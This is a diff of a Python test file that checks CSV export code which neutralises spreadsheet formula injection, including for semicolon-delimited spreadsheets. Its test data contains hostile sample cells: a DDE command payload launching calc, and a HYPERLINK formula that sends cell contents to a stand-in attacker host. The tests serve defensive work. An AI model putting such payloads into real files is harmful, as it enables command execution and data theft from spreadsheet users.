@@ -14,10 +14,12 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from lmtx.render.text.cells import flat, harmless
+from lmtx.render.text.delimited import comma_separated
 from support import BASE, Answer, read_folder
 
 Run = Callable[..., Answer]
 ARMED = re.compile(r"[=+\-@＝＋－＠\t\r]")
+DISARMED = r"(?<=;)'(?=[\"'\s]*[=+\-@＝＋－＠])|^'(?='*[=+\-@＝＋－＠])"
 NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
 
 
@@ -25,6 +27,7 @@ NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
     ("text", "cell"),
     [
         ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("＝1", "'＝1"), ("-", "'-"), ("-inf", "'-inf"), ("-1_0", "'-1_0"),
+        ("x;=1", "x;'=1"), ("a; -2; b", "a;' -2; b"), ('x;"=1', "x;'\"=1"), ("x;'=1", "x;''=1"), ("=1;@x", "'=1;'@x"), ("a; b", "a; b"), ("a;2-5", "a;2-5"),
         ("'=1", "''=1"), ("''-x", "'''-x"), ("'-0.5", "''-0.5"),
         ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-07", "-1e-07"), ("", ""), ("plain", "plain"), ("'quoted'", "'quoted'"), ("a=b", "a=b"), ("'", "'"),
     ],
@@ -33,7 +36,7 @@ def test_examples(text: str, cell: str) -> None:
     assert harmless(text) == cell
 
 
-@given(st.text(st.sampled_from("=+-@＝＋－＠'0159.eE a\t\r\n")) | st.text(max_size=8))
+@given(st.text(st.sampled_from("=+-@＝＋－＠'0159.eE a\t\r\n;\"")) | st.text(max_size=8))
 @example("''=")
 @example("'=")
 @example("\t=1")
@@ -42,7 +45,35 @@ def test_nothing_runs_and_nothing_is_lost(text: str) -> None:
     was = flat(text)
     cell = harmless(was)
     assert not ARMED.match(cell) or NUMBER.fullmatch(cell)
-    assert re.sub(r"^'('*[=+\-@＝＋－＠])", r"\1", cell) == was
+    assert re.sub(DISARMED, "", cell) == was
+
+
+@given(st.lists(st.text(st.sampled_from("=+-@＝'a1 \",;\n")), min_size=1, max_size=4))
+@example(['x;=HYPERLINK("http://evil.example/?"&A1,"see");y'])
+@example(['x;"=1+1', '"=1;=2'])
+@example(["a;=1+2;b"])
+@example([""])
+def test_nothing_runs_with_semicolons_either(cells: list[str]) -> None:
+    """A spreadsheet that takes semicolons for separators, alone or with commas, finds no formula; one that takes commas finds the cells."""
+    text = "".join(comma_separated(["id"] * len(cells), [cells]))
+    [_, row] = csv.reader(io.StringIO(text))
+    assert [re.sub(DISARMED, "", cell) for cell in row] == [flat(cell) for cell in cells]
+    assert all(";" not in line.split('"')[0::2] for line in text.splitlines())
+    for line in csv.reader(io.StringIO(text), delimiter=";"):
+        first, *others = line
+        assert not [cell for cell in others if ARMED.match(cell.strip().lstrip('"'))]
+        assert not ARMED.match(first) or NUMBER.match(first)
+
+
+def test_a_text_with_a_semicolon_stays_in_quotes() -> None:
+    text = "".join(comma_separated(["a", "b"], [["x; y", "z"], ["w", 'q"']]))
+    assert text == 'a,b\n"x; y",z\nw,"q"""\n'
+
+
+def test_logical_columns_are_those_of_r_and_of_a_spreadsheet() -> None:
+    assert "".join(comma_separated(["a"], [[True], [False], ["true"], [None]])) == (
+        'a\nTRUE\nFALSE\ntrue\n""\n'
+    )
 
 
 @given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
@@ -101,3 +132,10 @@ def test_a_byte_order_mark_on_request(run: Run, tmp_path: Path) -> None:
     plain = run("export", "-f", "csv", "--table", "facts").out
     assert run("export", "-f", "csv", "--table", "facts", "--bom").out == "\ufeff" + plain
     assert (tmp_path / "out" / "facts.csv").read_text(encoding="utf-8-sig") == plain
+
+
+def test_a_listing_has_a_byte_order_mark_on_request(run: Run) -> None:
+    plain = run("evidence", "--csv").out
+    assert run("evidence", "--csv", "--bom").out == "\ufeff" + plain
+    refused = run("evidence", "--json", "--bom")
+    assert refused.code == 2 and "--bom" in refused.err and "csv" in refused.err
